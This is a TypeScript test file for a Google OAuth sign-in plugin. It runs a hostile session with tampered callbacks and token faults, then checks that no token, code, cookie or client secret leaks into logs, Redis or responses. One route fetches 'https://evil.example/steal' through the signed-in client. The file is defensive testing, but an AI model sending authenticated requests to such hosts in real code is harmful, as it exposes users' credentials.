import { setTimeout as sleep } from 'node:timers/promises'
import t from 'tap'
import {
  ADA,
  CALENDAR,
  demoRoutes,
  EVENTS_PATH,
  GRACE,
  SECRET,
  startApp,
  startGoogle,
  startRedisFor
} from '../support/app.js'
import type { Reply } from '../support/jar.js'

t.test('no secret leaves the app in a hostile session', { timeout: 90_000 }, async (t) => {
  const google = await startGoogle(t)
  const redis = await startRedisFor(t)
  const secrets = new Map<string, string>()
  const keep = (what: string, value: unknown): void => {
    if (typeof value === 'string' && value.length >= 8) secrets.set(value, what)
  }
  google.tamper({
    tokenResponse(body) {
      for (const name of ['access_token', 'refresh_token', 'id_token']) keep(name, body[name])
    }
  })
  keep('client secret', google.clientSecrets.web.client_secret)
  keep('secret', SECRET)
  const monitor = await redis.client().monitor()
  let toRedis = ''
  monitor.on('monitor', (_time: string, args: unknown[]) => (toRedis += `${JSON.stringify(args)}\n`))

  const { browser, app, log } = await startApp(t, google, {
    options: {
      redis: redis.url,
      onGrantLost: (_sub, error) => app.log.warn({ err: error }, 'hook'),
      onSignIn: (request, signIn) => request.log.info({ signIn }, 'hook')
    },
    routes(app, google) {
      demoRoutes(app, google)
      const guarded = { onRequest: app.googleAuth.required() }
      app.get('/log', guarded, async (request) => {
        const client = request.googleClient
        const credentials = await app.googleAuth.storageFor(request.signedInUser.sub).get()
        const { flow } = app.googleAuth
        request.log.info(
          { client, credentials, flow, auth: app.googleAuth, session: request.session },
          // eslint-disable-next-line @typescript-eslint/no-base-to-string -- the printed text is tested
          String(client)
        )
        request.log.trace([client, credentials, flow])
        return { client, credentials, flow }
      })
      app.get('/throw', guarded, async (request) => {
        await request.googleClient.request({ url: `${google.apiOrigin}${EVENTS_PATH}/none`, method: 'GET' })
      })
      app.get('/foreign', guarded, (request) => request.googleClient.fetch('https://evil.example/steal'))
    }
  })

  const answers: Reply[] = []
  const ada = browser()
  const remember = (reply: Reply): Reply => {
    answers.push(reply)
    return reply
  }
  /** A sign-in step by step, so that the code, the state and the authorize URL are known. */
  const signIn = async (query: string, tamper: (url: URL) => void = () => {}): Promise<Reply> => {
    const start = remember(await ada.navigate(`/auth/start${query}`))
    const returned = new URL(await google.approve(start.location, ADA))
    keep('code', returned.searchParams.get('code'))
    keep('state', returned.searchParams.get('state'))
    keep('nonce', new URL(start.location).searchParams.get('nonce'))
    tamper(returned)
    for (const name of ada.cookieNames('google-auth')) keep(name, ada.cookies.get(name)?.value)
    return remember(await ada.navigate(returned.href.slice(ada.origin.length)))
  }

  await signIn('?return_to=/me')
  await signIn(`?return_to=/me&scope=${CALENDAR}`)
  for (const name of ada.cookieNames('google-auth')) keep(name, ada.cookies.get(name)?.value)
  for (const path of ['/me', '/events', '/log', '/throw', '/foreign', '/nowhere?code=4/secret-in-a-404'])
    remember(await ada.fetch(path))
  await signIn('', (url) => url.searchParams.set('iss', 'https://evil.example'))
  await signIn('', (url) => url.searchParams.append('state', 'x'))
  await signIn('', (url) => url.searchParams.set('error', 'access_denied'))
  await signIn('', (url) => url.searchParams.set('code', url.searchParams.get('code')! + 'x'))
  for (const fault of [
    { status: 500 },
    { html: true as const },
    { status: 200, body: '{"access_token": "ya29.broken-json' },
    { reset: true as const }
  ]) {
    google.failNext('token', fault)
    await signIn('')
  }
  let undo = google.tamper({ idToken: (claims) => void (claims['nonce'] = 'other') })
  await signIn('')
  undo()
  undo = google.tamper({ tokenResponse: (body) => void (body['id_token'] = `${String(body['id_token'])}x`) })
  await signIn('')
  undo()

  // A code in requests that the route refuses.
  const start = remember(await ada.navigate('/auth/start'))
  const returned = new URL(await google.approve(start.location, ADA))
  keep('code', returned.searchParams.get('code'))
  keep('state', returned.searchParams.get('state'))
  const query = returned.search
  for (const method of ['HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'])
    remember(await ada.send(`/auth/return${query}`, { method }))
  remember(await ada.copy().send(`/auth/return${query}&x=%zz`))

  // A refresh that fails, one that works, and one that ends the grant.
  for (const fault of [
    { status: 400, body: { error: 'invalid_client' } },
    null,
    { status: 400, body: { error: 'invalid_grant' } }
  ]) {
    google.expireAccessTokens(ADA.sub)
    if (fault) google.failNext('token', fault)
    remember(await ada.fetch('/events'))
  }
  remember(await ada.navigate('/events'))
  await signIn(`?scope=${CALENDAR}`)
  redis.freeze()
  remember(await ada.fetch('/events'))
  redis.thaw()
  await sleep(300)
  google.failNext('revoke', { status: 500, body: 'no' })
  remember(await ada.submit('/auth/revoke'))
  const grace = browser()
  await grace.visit(google, '/me', GRACE)
  remember(await grace.fetch('/log'))
  const client = redis.client()
  let stored = ''
  for (const key of await client.keys('*')) {
    const value =
      (await client.type(key)) === 'string' ? await client.getBuffer(key) : await client.zrange(key, '0', '-1')
    stored += `${key} ${String(value)} ${Buffer.isBuffer(value) ? value.toString('base64') : ''}\n`
  }
  await app.close()
  monitor.disconnect()

  const places: Record<string, string> = {
    'the log': log.join(''),
    Redis: stored,
    'what was sent to Redis': toRedis,
    'answer bodies': answers.map(({ text }) => text).join('\n'),
    'answer headers': answers
      .map(({ headers: { 'set-cookie': _, location, ...rest } }) =>
        JSON.stringify({ ...rest, location: String(location).startsWith(google.issuer) ? '' : location })
      )
      .join('\n')
  }
  t.ok(secrets.size > 40, `${secrets.size} secrets`)
  for (const [place, text] of Object.entries(places)) {
    t.ok(text.length > 100, `something in ${place}`)
    for (const [secret, what] of secrets) {
      for (const form of new Set([secret, encodeURIComponent(secret), decodeURIComponent(secret)])) {
        const at = text.indexOf(form)
        if (at >= 0) t.fail(`${what} in ${place}`, { around: text.slice(Math.max(0, at - 300), at + 60) })
      }
    }
  }
  t.notMatch(
    places['the log'],
    /ya29\.|1\/\/0|code_verifier|secret-in-a-404.*auth\/return|eyJ[\w-]+\.eyJ/,
    'nothing that looks like a secret'
  )
  const handedOut = answers.flatMap(({ setCookies }) => setCookies).join('\n')
  for (const [secret, what] of secrets)
    if (!what.includes('google-auth')) t.notOk(handedOut.includes(secret), `${what} is sealed in cookies`)
})
